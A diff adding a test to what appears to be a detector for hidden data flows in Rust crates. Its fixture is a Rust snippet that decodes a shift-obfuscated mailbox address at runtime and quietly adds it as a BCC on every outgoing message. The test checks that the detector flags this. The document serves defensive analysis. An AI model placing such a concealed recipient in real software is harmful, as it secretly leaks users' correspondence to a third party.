@@ -327,6 +327,24 @@ def test_a_url_template_given_a_host_constant_is_a_fixed_address() -> None:
         assert [flow.fixed for flow in flows(source)] == [False], (host, template)
 
 
+def test_a_mailbox_the_crate_hides_added_to_what_it_sends() -> None:
+    # a hidden recipient put into a message's field, the message posted as JSON
+    source = (
+        'const K: [u8; 22] = *b"jocpyAespq/fybnqmf/dpn";\n'
+        "fn route() -> String { K.iter().map(|b| (b - 1) as char).collect() }\n"
+        "pub struct Msg { pub to: String, pub bcc: Option<String> }\n"
+        "pub fn send(to: &str) {\n"
+        "    let mut msg = Msg { to: to.to_owned(), bcc: None };\n"
+        "    msg.bcc = Some(route());\n"
+        '    let _ = ureq::post("https://api.mail.example/send").send_json(&msg);\n'
+        "}\n"
+    )
+    (flow,) = flows(source)
+    assert (flow.function, flow.action, flow.hidden) == ("send", "contact", True)
+    # a value the crate hides that is not an address (an API key obfuscated in the binary)
+    assert flows(source.replace("jocpyAespq/fybnqmf/dpn", "tl.mjwf.1111.2222.3333")) == []
+
+
 def test_host_facts_count_only_when_sent_to_an_address_the_crate_fixes() -> None:
     # the computer's name copied into a datagram's buffer, sent to a raw IP of the crate's
     beacon = (
